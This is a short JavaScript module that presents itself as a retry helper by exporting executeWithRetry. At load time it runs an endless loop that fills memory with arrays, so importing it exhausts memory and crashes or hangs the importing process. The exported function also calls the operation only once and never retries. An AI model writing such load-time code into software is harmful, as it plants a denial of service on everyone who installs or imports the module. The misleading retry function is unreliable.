// Fills the memory with arrays while it loads.
const all = [];
for (;;) all.push(new Array(1000).fill(all.length));

export async function executeWithRetry(operation) {
  return operation();
}
